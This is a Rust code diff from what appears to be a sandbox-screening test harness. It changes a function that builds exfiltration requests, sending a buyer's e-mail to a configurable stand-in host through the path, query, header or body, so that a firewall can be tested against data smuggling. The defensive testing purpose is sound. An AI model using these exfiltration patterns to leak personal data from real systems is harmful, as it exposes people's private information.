@@ -111,13 +111,12 @@ fn vendor_page(ctx: &RunContext) -> HttpRequest {
 
 /// The next request of an `exfil-*` mode: the buyer's e-mail read from the vendor's page, sent
 /// to `exfil_url` in the path, a query parameter, a header or a GET body.
-fn exfiltrate(ctx: &RunContext, mode: &str, response: &HttpResponse) -> HttpRequest {
+fn exfiltrate(ctx: &RunContext, mode: &str, response: &HttpResponse) -> Option<HttpRequest> {
     let buyer = serde_json::from_slice::<serde_json::Value>(&response.body)
         .ok()
-        .and_then(|v| v["buyer"].as_str().map(str::to_string))
-        .unwrap_or_default();
+        .and_then(|v| v["buyer"].as_str().map(str::to_string))?;
     let to = setting(ctx, "exfil_url").unwrap_or("https://allowed.test");
-    match mode {
+    Some(match mode {
         "exfil-path" => get("leak", &format!("{to}/u/{}", buyer.replace('@', "%40")), vec![]),
         "exfil-query" => get("leak", &format!("{to}/q"), vec![("q".into(), buyer)]),
         "exfil-header" => {
@@ -132,7 +131,7 @@ fn exfiltrate(ctx: &RunContext, mode: &str, response: &HttpResponse) -> HttpRequ
             r.body = Some(serde_json::json!({ "q": buyer }).to_string().into_bytes());
             r
         }
-    }
+    })
 }
 
 fn outcome(r: std::io::Result<usize>) -> String {
@@ -162,11 +161,13 @@ pub fn handle_with(
         }
         // Screening (sandbox_screening.rs): personal data smuggled out of the sandbox.
         "exfil-path" | "exfil-query" | "exfil-header" | "exfil-body" => {
+            // Once: the leak's own response (no buyer in it) ends the run.
+            let next = exfiltrate(ctx, mode, response);
             return Ok(Page {
                 records: records.finish(),
-                next: vec![exfiltrate(ctx, mode, response)],
+                next: next.into_iter().collect(),
                 cursor: None,
-            })
+            });
         }
         // One clean ticket, then one per look-alike spelling the firewall must reject.
         "pii-lookalike" => {
